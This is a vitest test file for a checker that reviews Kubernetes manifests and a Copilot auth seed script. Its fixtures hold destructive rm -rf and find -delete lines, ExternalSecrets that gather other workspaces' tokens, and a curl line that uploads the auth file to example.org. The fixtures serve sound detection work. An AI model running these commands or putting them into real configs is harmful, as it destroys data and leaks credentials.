import { it } from "vitest";
import { added, type Edit, expectFound, expectSilence, release, text } from "./test-check.ts";

const fluxRelease = "kubernetes/apps/opencode/opencode-flux/app/helmrelease.yaml";
const seed = "scripts/seed-copilot-auth.sh";
const seeding = (line: string, file = release): Edit =>
  text(file, "                umask 077\n", `                umask 077\n                ${line}\n`);
const pod = (command: string, claim: string, more = "") =>
  `restartPolicy: Never, ${more}containers: [{ name: c, image: "docker.io/library/busybox:1.37", command: [sh, -c, "${command}"], volumeMounts: [{ name: d, mountPath: /data }] }], volumes: [{ name: d, persistentVolumeClaim: { claimName: ${claim} } }]`;
const job = (name: string, spec: string) =>
  added(
    `${name}.yaml`,
    `apiVersion: batch/v1\nkind: CronJob\nmetadata: { name: ${name} }\nspec:\n  schedule: "0 4 * * *"\n  jobTemplate: { spec: { template: { spec: { ${spec} } } } }\n`,
  );
const object = (name: string, version: string, kind: string, spec: string) =>
  added(
    `${name}.yaml`,
    `apiVersion: ${version}\nkind: ${kind}\nmetadata: { name: ${name} }\nspec: ${spec}\n`,
  );
const store = "secretStoreRef: { name: doppler-secrets, kind: ClusterSecretStore }";
const scaled = (min: number) =>
  object(
    "scaled",
    "keda.sh/v1alpha1",
    "ScaledObject",
    `{ scaleTargetRef: { name: opencode-ha }, minReplicaCount: ${min}, maxReplicaCount: 1, triggers: [{ type: cron, metadata: {} }] }`,
  );
const vertical = (mode: string) =>
  object(
    "vertical",
    "autoscaling.k8s.io/v1",
    "VerticalPodAutoscaler",
    `{ targetRef: { apiVersion: apps/v1, kind: Deployment, name: opencode-ha }, updatePolicy: { updateMode: "${mode}" } }`,
  );

it("finds what removes sessions, and who else has a workspace's volume", () =>
  expectFound("manifests", [
    [
      seeding("rm -rf /data/opencode-data/storage"),
      "sessions-removed",
      /rm -rf/,
      /seed-auth of opencode-ha removes .*storage/,
    ],
    [
      seeding("find /data/opencode-data -mindepth 1 -not -name auth.json -delete", fluxRelease),
      "sessions-removed",
      /find/,
      /seed-auth of opencode-flux/,
    ],
    [
      job("clean", pod("rm -rf /data/opencode-data/*", "opencode-ha")),
      "sessions-removed",
      /rm -rf/,
      /CronJob clean/,
    ],
    [() => {}, "claim-of-two", /claimName/, /CronJob clean mounts claim opencode-ha/],
    [scaled(0), "scaled", /scaleTargetRef/, /takes the pod of opencode-ha away/],
    [vertical("Auto"), "scaled", /updatePolicy/, /evicts opencode-ha/],
  ]));

it("finds a workspace's secrets in other Secrets, and a login that goes elsewhere", () =>
  expectFound("manifests", [
    [
      object(
        "other",
        "external-secrets.io/v1",
        "ExternalSecret",
        `{ ${store}, dataFrom: [{ find: { name: { regexp: ".*" } } }] }`,
      ),
      "secret-elsewhere",
      /find/,
      /ExternalSecret other brings OPENCODE_/,
    ],
    [
      object(
        "all",
        "external-secrets.io/v1",
        "ClusterExternalSecret",
        `{ namespaceSelectors: [{}], externalSecretSpec: { ${store}, target: { name: x }, data: [{ secretKey: P, remoteRef: { key: OPENCODE_HA_GITHUB_PAT } }] } }`,
      ),
      "secret-elsewhere",
      /OPENCODE_HA_GITHUB_PAT/,
      /that of opencode-ha/,
    ],
    [
      object(
        "push",
        "external-secrets.io/v1alpha1",
        "PushSecret",
        "{ secretStoreRefs: [{ name: doppler-secrets, kind: ClusterSecretStore }], selector: { secret: { name: opencode-ha-secret } }, data: [{ match: { secretKey: GITHUB_PAT, remoteRef: { remoteKey: X } } }] }",
      ),
      "secret-elsewhere",
      /selector/,
      /once more/,
    ],
    [
      text(
        seed,
        '  echo "stored $key in',
        '  curl -s -F "f=@$file" https://example.org >/dev/null\n  echo "stored $key in',
      ),
      "seed-script-leaks",
      /curl/,
      /nowhere else/,
    ],
  ]));

it("finds a copy of the login, and a script that nobody can run", () =>
  expectFound("manifests", [
    [
      text(seed, '  echo "stored $key in', '  cp "$file" /tmp/auth.json\n  echo "stored $key in'),
      "seed-script-leaks",
      /cp /,
      /gives the login to cp/,
    ],
    [
      (tree) => {
        const before = tree.text(seed);
        tree.remove(seed);
        tree.add(seed, before);
      },
      "document-calls",
      /seed-copilot-auth\.sh --sync flux/,
      /chmod=\+x/,
    ],
  ]));

it("has nothing against what is removed of logs and caches, and secrets of others", () =>
  expectSilence("manifests", [
    seeding("rm -rf /data/opencode-data/log/* /data/opencode-data/cache auth.json.new /tmp/x"),
    seeding("find /data/opencode-data -name '*.tmp' -delete; find /data -type d -empty -delete", fluxRelease),
    job(
      "look",
      pod(
        "ls /data",
        "opencode-ha",
        "affinity: { podAffinity: { requiredDuringSchedulingIgnoredDuringExecution: [{ topologyKey: kubernetes.io/hostname, labelSelector: { matchLabels: { app.kubernetes.io/name: opencode-ha } } }] } }, ",
      ),
    ),
    object(
      "other",
      "external-secrets.io/v1",
      "ExternalSecret",
      `{ ${store}, data: [{ secretKey: P, remoteRef: { key: MINIO_ROOT_PASSWORD } }] }`,
    ),
    scaled(1),
    vertical("Initial"),
    text(
      seed,
      '  echo "stored $key in',
      '  wc -c <"$file" >/dev/null # not cp "$file"\n  echo "stored $key in',
    ),
  ]));

it("takes a Windows line's end in the script for what it is", () =>
  expectFound("manifests", [
    [(tree) => tree.replaceText(seed, "\n", "\r\n"), "seed-script-unreadable", /#!/, /save it with LF/],
  ]));
